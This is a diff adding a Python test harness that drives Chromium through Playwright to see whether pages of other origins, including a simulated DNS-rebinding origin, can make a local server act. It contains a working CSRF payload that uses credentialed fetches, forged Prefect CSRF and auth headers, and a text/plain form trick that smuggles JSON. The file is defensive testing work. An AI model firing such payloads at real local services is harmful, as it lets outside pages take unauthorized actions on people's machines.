@@ -1,0 +1,106 @@
+"""Pages of other origins, in a real Chromium, that try to make a server of this machine do something."""
+
+from __future__ import annotations
+
+import http.server
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from urllib.parse import urlsplit
+
+from playwright.sync_api import Page, sync_playwright
+
+from environments.webarena.browser import find_chromium
+
+STRANGER = "stranger.example"
+"""A name that Chromium resolves to this machine, as the name server of an attacker may (DNS rebinding)."""
+
+ATTACK = """async ([url, body]) => {
+    const json = {'Content-Type': 'application/json'}
+    const got = []
+    const attempts = [
+        {mode: 'no-cors', body: new Blob([body])},
+        {mode: 'no-cors', body, headers: {'Content-Type': 'text/plain'}},
+        {mode: 'cors', body, headers: json},
+        {mode: 'cors', body, headers: {...json, 'Authorization': 'Basic YTpi', 'Prefect-Csrf-Token': 'a', 'Prefect-Csrf-Client': 'a'}},
+    ]
+    for (const attempt of attempts) {
+        try {
+            const answer = await fetch(url, {method: 'POST', credentials: 'include', ...attempt})
+            if (answer.ok) got.push(await answer.text())
+        } catch {}
+    }
+    const form = document.createElement('form')
+    Object.assign(form, {action: url, method: 'POST', enctype: 'text/plain', target: 'frame'})
+    const field = document.createElement('input')
+    Object.assign(field, {name: body.slice(0, -1) + ', "ignored": "', value: '"}'})
+    form.append(field)
+    const frame = document.createElement('iframe')
+    frame.name = 'frame'
+    document.body.append(form, frame)
+    await new Promise(done => { frame.onload = done; form.submit() })
+    return got
+}"""
+
+
+@dataclass
+class Seen:
+    """What came of a page's attempts.
+
+    Attributes:
+        page: The page's origin.
+        statuses: Of all answers, also those that the page's scripts may not read.
+        read: What its scripts could read of answers that grant something.
+    """
+
+    page: str
+    statuses: list[int] = field(default_factory=list)
+    read: list[str] = field(default_factory=list)
+
+
+def attempts(url: str, body: str) -> list[Seen]:
+    """Posts the JSON `body` to `url` with and without a preflight and as a form, from pages of three other origins.
+
+    They are a stranger's, another port of this machine, and the server's own under a stranger's name.
+    """
+    address = urlsplit(url)
+    with elsewhere() as port, sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(
+            executable_path=find_chromium(), args=["--no-sandbox", f"--host-resolver-rules=MAP {STRANGER} 127.0.0.1"]
+        )
+        try:
+            rebound = f"http://{STRANGER}:{address.port}"
+            pages = [(f"http://{STRANGER}:{port}", url), (f"http://127.0.0.1:{port}", url), (rebound, f"{rebound}{address.path}")]
+            return [attempt(chromium.new_page(), origin, target, body) for origin, target in pages]
+        finally:
+            chromium.close()
+
+
+def attempt(page: Page, origin: str, url: str, body: str) -> Seen:
+    """All ways to post from one page."""
+    seen = Seen(origin)
+    page.goto(origin)
+    page.on("response", lambda answer: seen.statuses.append(answer.status) if answer.url == url else None)
+    seen.read = page.evaluate(ATTACK, [url, body])
+    return seen
+
+
+@contextmanager
+def elsewhere() -> Iterator[int]:
+    """The port of a server of blank pages."""
+
+    class Blank(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.end_headers()
+            self.wfile.write(b"<html><body></body></html>")
+
+        def log_message(self, format: str, *arguments: object) -> None:
+            pass
+
+    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Blank) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield server.server_port
+        server.shutdown()
